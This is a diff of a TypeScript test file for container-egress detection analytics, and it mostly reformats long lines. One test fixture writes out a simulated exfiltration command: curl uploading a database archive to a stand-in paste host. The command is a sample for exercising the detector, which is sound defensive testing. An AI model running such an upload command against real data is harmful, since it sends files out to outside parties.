@@ -126,7 +126,11 @@ test('a long-lived container sending the same 50 MB spread over a day raises not
 
 test('a short-lived container running curl alone raises nothing as shipped; with trigger.tools on it names the tool', () => {
   const c: ContainerRef = { id: 'e'.repeat(64), name: 'probe', image: 'alpine' };
-  const evs = [lifecycleEvent(c, T0, 'create'), execEvent(c, T0 + 2000, '/usr/bin/curl', ['-T', '/data/db.tar', 'https://paste.example']), lifecycleEvent(c, T0 + 9000, 'die')];
+  const evs = [
+    lifecycleEvent(c, T0, 'create'),
+    execEvent(c, T0 + 2000, '/usr/bin/curl', ['-T', '/data/db.tar', 'https://paste.example']),
+    lifecycleEvent(c, T0 + 9000, 'die'),
+  ];
   // Every CI job runs curl in a short-lived container: the shipped definition alerts on volume only.
   const shipped = def('short-lived-container-egress.yml');
   assert.deepEqual(run(createAnalytics([shipped]).detectors, evs, T0 + 10 * MIN), []);
@@ -183,8 +187,20 @@ test('restart in the middle of learning: state survives in SQLite and the next a
 
 test('property: a restart at any point of any stream gives the same findings as no restart', async () => {
   const fc = await import('fast-check');
-  const picked = [def('egress-spike-per-image.yml'), def('first-seen-executable-per-image.yml'), def('short-lived-container-egress.yml'), def('container-churn-egress.yml'), def('cpu-spike-per-image.yml')].map((d) =>
-    d.type === 'baseline' ? { ...d, baseline: { ...d.baseline, warmup: 3, window: 12 } } : d.type === 'first_seen' ? { ...d, learningPeriodMs: 20 * MIN } : d.type === 'lifecycle' && d.mode === 'churn' ? { ...d, churn: { ...d.churn, minEvents: 4 }, egressBaseline: { ...d.egressBaseline, warmup: 3, window: 12 } } : d,
+  const picked = [
+    def('egress-spike-per-image.yml'),
+    def('first-seen-executable-per-image.yml'),
+    def('short-lived-container-egress.yml'),
+    def('container-churn-egress.yml'),
+    def('cpu-spike-per-image.yml'),
+  ].map((d) =>
+    d.type === 'baseline'
+      ? { ...d, baseline: { ...d.baseline, warmup: 3, window: 12 } }
+      : d.type === 'first_seen'
+        ? { ...d, learningPeriodMs: 20 * MIN }
+        : d.type === 'lifecycle' && d.mode === 'churn'
+          ? { ...d, churn: { ...d.churn, minEvents: 4 }, egressBaseline: { ...d.egressBaseline, warmup: 3, window: 12 } }
+          : d,
   );
   const images = ['acme/api', 'acme/web', 'busybox'];
   const action = fc.record({
